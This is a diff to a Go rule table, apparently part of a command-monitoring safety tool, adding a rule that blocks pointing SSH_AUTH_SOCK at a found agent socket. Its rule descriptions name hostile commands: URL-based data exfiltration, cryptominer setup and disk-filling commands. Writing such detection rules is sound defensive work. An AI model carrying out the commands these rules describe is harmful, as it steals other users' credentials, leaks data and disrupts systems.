@@ -147,8 +147,10 @@ const (
 	rNetExposedShell
 	rDisruptAcceleratorFleet
 
-	// The disk filled (diskfill.go).
+	// The disk filled (diskfill.go); another session's SSH agent borrowed
+	// (credentials.go).
 	rDisruptDiskFill
+	rCredAgentHijack
 
 	// Commands run inside production workloads (infra.go), changes made
 	// to production (prodchange.go).
@@ -446,6 +448,8 @@ var familyRules = map[ruleIndex]Rule{
 		"Puts the output of a command that reveals the machine, its user or its files into a URL for a host that is not trusted (curl http://host/$(whoami)): a GET carries data out as a POST does."},
 	rDisruptMiner: {"disruption.cryptominer", CategorySystemDisruption, high, block,
 		"Runs or sets up a cryptocurrency miner: a miner program, container image or package (xmrig and its kin, also renamed), a mining pool (stratum+tcp:// URL, pool host), a miner's options (--donate-level, --cpu-max-threads-hint, -a rx/0, a wallet address as the user), a miner configuration, image reference or in-browser miner script (coinhive, cryptoloot) in an argument or a file written: it takes the machine's CPU for someone else."},
+	rCredAgentHijack: {"credential.agent-hijack", CategoryCredentialAccess, high, block,
+		"Points SSH_AUTH_SOCK at an agent socket it went looking for (a glob such as /tmp/ssh-*/agent.*, or a listing of one): whoever's agent answers signs in for it, with keys that are not the task's."},
 	rDisruptDiskFill: {"disruption.disk-fill", CategorySystemDisruption, high, escalate,
 		"Fills the disk: makes a file of 32 GiB or more at once (fallocate -l, dd bs×count, head -c from /dev/zero, mkfile), or writes an endless source into a file until the disk is full (dd from /dev/zero or /dev/urandom with no count, yes > file, cat /dev/urandom > file). Every service that writes stops. Smaller images and swap files, and endless sources sent to /dev/null or a pipe, are everyday."},
 	rDisruptAcceleratorFleet: {"disruption.accelerator-fleet", CategorySystemDisruption, high, escalate,
